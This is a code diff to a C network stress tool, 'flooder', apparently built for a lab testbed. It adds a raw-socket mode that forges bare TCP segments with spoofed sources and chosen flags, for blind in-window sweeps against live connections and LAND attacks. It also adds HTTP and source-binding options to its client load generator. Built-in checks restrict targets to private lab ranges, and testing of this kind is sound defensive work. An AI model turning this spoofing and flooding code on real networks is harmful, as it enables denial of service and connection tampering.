@@ -21,6 +21,19 @@
  *       other O", "success_pct P", "connect_ms p50 A p99 B max C" (p99 over every attempt,
  *       a failure counting as infinitely slow: "inf" when more than 1% failed).
  *       The destination must be in 10.77.0.0/16 too.
+ *       --http PATH: the request is "GET PATH HTTP/1.0" instead (the server answers and closes
+ *       first, keeping TIME_WAIT); an attempt succeeds when the response starts with
+ *       "HTTP/1.1 200" and the server's FIN comes. --from IP: bind to this source address.
+ *       Also prints "rate_per_s R" (successes per second).
+ *
+ *   flooder tcp --from IP:PORT --to IP:PORT --flags F --count N [--rate PPS] [--duration S]
+ *       [--seq N] [--ack N]
+ *       Sends N bare TCP segments (20-byte header, no options, window 64240) with flags F
+ *       (letters S A R F P, e.g. SA) from IP:PORT to IP:PORT through a raw socket; sequence
+ *       and acknowledgment numbers random for each segment unless given. For blind in-window
+ *       sweeps against a connection (spoofing its client's 4-tuple) and LAND (source = the
+ *       destination). Destinations in 10.77.0.0/16 only; sources in 10.77.0.0/16 or
+ *       10.78.0.0/16 only. Same bounds as syn. Prints "sent N seconds S pps R errors E".
  */
 #ifndef _GNU_SOURCE
 #define _GNU_SOURCE
@@ -58,6 +71,9 @@ static void usage(void)
     fprintf(stderr,
             "usage: flooder syn --to IP:PORT --count N [--rate PPS] [--duration S] [--seed N]\n"
             "       flooder conn --to IP:PORT [--conc N] [--duration S] [--timeout S] [--max N]\n"
+            "                    [--http PATH] [--from IP]\n"
+            "       flooder tcp --from IP:PORT --to IP:PORT --flags F --count N [--rate PPS]\n"
+            "                   [--duration S] [--seq N] [--ack N]\n"
             "destinations: 10.77.0.0/16 only; spoofed sources: 10.78.0.0/16 only\n");
     exit(2);
 }
@@ -238,6 +254,110 @@ static int flood(int argc, char **argv)
     return 0;
 }
 
+/* ---- bare TCP segments (blind sweeps, LAND) ---- */
+
+#define SEG_LEN 40
+
+static void make_seg(uint8_t *p, uint32_t src, uint32_t dst, uint16_t sport, uint16_t dport,
+                     uint32_t seq, uint32_t ack, uint8_t flags, uint16_t id)
+{
+    uint8_t *t = p + 20;
+    memset(p, 0, SEG_LEN);
+    p[0] = 0x45;
+    wr16(p + 2, SEG_LEN);
+    wr16(p + 4, id);
+    wr16(p + 6, 0x4000);
+    p[8] = 64;
+    p[9] = IPPROTO_TCP;
+    wr32(p + 12, src);
+    wr32(p + 16, dst);
+    wr16(p + 10, csum_fold(csum_add(0, p, 20)));
+    wr16(t, sport);
+    wr16(t + 2, dport);
+    wr32(t + 4, seq);
+    wr32(t + 8, ack);
+    t[12] = (20 / 4) << 4;
+    t[13] = flags;
+    wr16(t + 14, 64240);
+    uint32_t sum = csum_add(0, p + 12, 8);
+    sum += IPPROTO_TCP + 20;
+    sum = csum_add(sum, t, 20);
+    wr16(t + 16, csum_fold(sum));
+}
+
+static int segs(int argc, char **argv)
+{
+    uint32_t src = 0, dst = 0, seq = 0, ack = 0;
+    uint16_t sport = 0, dport = 0;
+    int have_from = 0, have_to = 0, have_seq = 0, have_ack = 0;
+    uint8_t flags = 0;
+    unsigned long count = 0;
+    double rate = 0, duration = 10;
+    rng = (uint64_t)time(NULL) * 6364136223846793005ull ^ (uint64_t)getpid();
+    for (int i = 2; i < argc; i += 2) {
+        const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
+        if (!strcmp(a, "--to") || !strcmp(a, "--from")) {
+            int to = a[2] == 't';
+            if (!v || parse_to(v, to ? &dst : &src, to ? &dport : &sport) < 0) {
+                fprintf(stderr, "flooder: bad %s\n", a);
+                return 2;
+            }
+            if (to) have_to = 1; else have_from = 1;
+        } else if (!strcmp(a, "--flags")) {
+            if (!v || !*v) usage();
+            for (const char *f = v; *f; f++) {
+                const char *k = strchr("FSRPA", *f);
+                if (!k) { fprintf(stderr, "flooder: bad --flags %s (letters S A R F P)\n", v); return 2; }
+                flags |= (uint8_t)(1u << (k - "FSRPA"));
+            }
+        } else if (!strcmp(a, "--count")) count = (unsigned long)num(a, v, 1, (double)MAX_COUNT);
+        else if (!strcmp(a, "--rate")) rate = num(a, v, 0, 1e8);
+        else if (!strcmp(a, "--duration")) duration = num(a, v, 0.001, MAX_SECONDS);
+        else if (!strcmp(a, "--seq")) { seq = (uint32_t)num(a, v, 0, 4294967295.0); have_seq = 1; }
+        else if (!strcmp(a, "--ack")) { ack = (uint32_t)num(a, v, 0, 4294967295.0); have_ack = 1; }
+        else usage();
+    }
+    if (!have_to || !have_from || !count || !flags) usage();
+    if ((dst & NET_MASK) != HOSTS_NET) {
+        fprintf(stderr, "flooder: refusing destination outside 10.77.0.0/16\n");
+        return 2;
+    }
+    if ((src & NET_MASK) != HOSTS_NET && (src & NET_MASK) != SPOOF_NET) {
+        fprintf(stderr, "flooder: refusing source outside 10.77.0.0/16 and 10.78.0.0/16\n");
+        return 2;
+    }
+    if (!rng) rng = 1;
+    struct sockaddr_in to;
+    memset(&to, 0, sizeof to);
+    to.sin_family = AF_INET;
+    to.sin_addr.s_addr = htonl(dst);
+    int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
+    if (s < 0) { perror("flooder: raw socket"); return 1; }
+    uint8_t pkt[SEG_LEN];
+    unsigned long sent = 0, errors = 0;
+    double t0 = now_s(), t;
+    while (sent < count && (t = now_s()) - t0 < duration) {
+        if (rate > 0 && rate * (t - t0) < (double)sent) {
+            struct timespec ts = {0, 200000};
+            nanosleep(&ts, NULL);
+            continue;
+        }
+        uint64_t r = rnd();
+        make_seg(pkt, src, dst, sport, dport, have_seq ? seq : (uint32_t)r,
+                 have_ack ? ack : (uint32_t)(r >> 32), flags, (uint16_t)(r >> 16));
+        if (sendto(s, pkt, SEG_LEN, 0, (struct sockaddr *)&to, sizeof to) < 0) {
+            errors++;
+            if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) { perror("flooder: sendto"); break; }
+            continue;
+        }
+        sent++;
+    }
+    t = now_s() - t0;
+    close(s);
+    printf("sent %lu seconds %.3f pps %.0f errors %lu\n", sent, t, t > 0 ? sent / t : 0, errors);
+    return 0;
+}
+
 /* ---- legitimate clients ---- */
 
 enum { S_FREE, S_CONNECTING, S_WAITING };
@@ -245,6 +365,7 @@ struct slot {
     int fd, state;
     double start, connect_s;    /* when connect() was called; how long it took */
     unsigned got;
+    char head[16];              /* --http: the response's first bytes */
 };
 
 static int cmp_d(const void *a, const void *b)
@@ -261,6 +382,8 @@ static int clients(int argc, char **argv)
     unsigned conc = 4;
     unsigned long max = 1000000;
     double duration = 10, timeout = 3;
+    const char *http = NULL;
+    uint32_t from = 0;
     for (int i = 2; i < argc; i += 2) {
         const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
         if (!strcmp(a, "--to")) {
@@ -270,6 +393,12 @@ static int clients(int argc, char **argv)
         else if (!strcmp(a, "--duration")) duration = num(a, v, 0.001, MAX_SECONDS);
         else if (!strcmp(a, "--timeout")) timeout = num(a, v, 0.001, 30);
         else if (!strcmp(a, "--max")) max = (unsigned long)num(a, v, 1, 1e6);
+        else if (!strcmp(a, "--http")) { if (!v || v[0] != '/' || strlen(v) > 200) usage(); http = v; }
+        else if (!strcmp(a, "--from")) {
+            struct in_addr ia;
+            if (!v || inet_pton(AF_INET, v, &ia) != 1) usage();
+            from = ntohl(ia.s_addr);
+        }
         else usage();
     }
     if (!have_to) usage();
@@ -289,8 +418,10 @@ static int clients(int argc, char **argv)
     int ep = epoll_create1(EPOLL_CLOEXEC);
     if (ep < 0) { perror("flooder: epoll"); return 1; }
     unsigned long attempts = 0, ok = 0, to_conn = 0, to_reply = 0, refused = 0, reset = 0, other = 0;
-    char req[32];
+    char req[256];
+    size_t reqlen = 32;
     memset(req, 'q', sizeof req);
+    if (http) reqlen = (size_t)snprintf(req, sizeof req, "GET %s HTTP/1.0\r\n\r\n", http);
     double t0 = now_s(), end = t0 + duration;
     unsigned active = 0;
 
@@ -308,6 +439,13 @@ static int clients(int argc, char **argv)
             if (t >= end || attempts >= max) continue;
             int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
             if (fd < 0) { perror("flooder: socket"); return 1; }
+            if (from) {
+                struct sockaddr_in fa;
+                memset(&fa, 0, sizeof fa);
+                fa.sin_family = AF_INET;
+                fa.sin_addr.s_addr = htonl(from);
+                if (bind(fd, (struct sockaddr *)&fa, sizeof fa) < 0) { perror("flooder: bind"); return 1; }
+            }
             attempts++;
             sl[i].fd = fd;
             sl[i].start = now_s();
@@ -340,7 +478,7 @@ static int clients(int argc, char **argv)
                     continue;
                 }
                 c->connect_s = now_s() - c->start;
-                if (send(c->fd, req, sizeof req, MSG_NOSIGNAL) != (ssize_t)sizeof req) {
+                if (send(c->fd, req, reqlen, MSG_NOSIGNAL) != (ssize_t)reqlen) {
                     FINISH(i, other);
                     continue;
                 }
@@ -353,11 +491,19 @@ static int clients(int argc, char **argv)
                 char buf[256];
                 ssize_t r = recv(c->fd, buf, sizeof buf, 0);
                 if (r > 0) {
+                    if (http && c->got < sizeof c->head)
+                        memcpy(c->head + c->got, buf,
+                               (size_t)r < sizeof c->head - c->got ? (size_t)r : sizeof c->head - c->got);
                     c->got += (unsigned)r;
-                    if (c->got >= sizeof req) {
+                    if (!http && c->got >= reqlen) {
                         lat[ok] = c->connect_s;
                         FINISH(i, ok);
                     }
+                    continue;
+                }
+                if (r == 0 && http && c->got >= 12 && !memcmp(c->head, "HTTP/1.1 200", 12)) {
+                    lat[ok] = c->connect_s;
+                    FINISH(i, ok);
                     continue;
                 }
                 if (r < 0 && (errno == EAGAIN || errno == EINTR)) continue;
@@ -371,6 +517,8 @@ static int clients(int argc, char **argv)
     printf("attempts %lu ok %lu failed %lu timeout_connect %lu timeout_reply %lu refused %lu "
            "reset %lu other %lu\n", attempts, ok, failed, to_conn, to_reply, refused, reset, other);
     printf("success_pct %.3f\n", attempts ? 100.0 * (double)ok / (double)attempts : 0.0);
+    double el = now_s() - t0;
+    printf("rate_per_s %.0f\n", el > 0 ? (double)ok / el : 0.0);
     qsort(lat, ok, sizeof *lat, cmp_d);
     /* percentiles over every attempt; a failure sorts after every success */
     unsigned long i50 = attempts ? (attempts * 50 + 99) / 100 - 1 : 0;
@@ -391,6 +539,7 @@ int main(int argc, char **argv)
     if (argc < 2) usage();
     if (!strcmp(argv[1], "syn")) return flood(argc, argv);
     if (!strcmp(argv[1], "conn")) return clients(argc, argv);
+    if (!strcmp(argv[1], "tcp")) return segs(argc, argv);
     usage();
     return 2;
 }
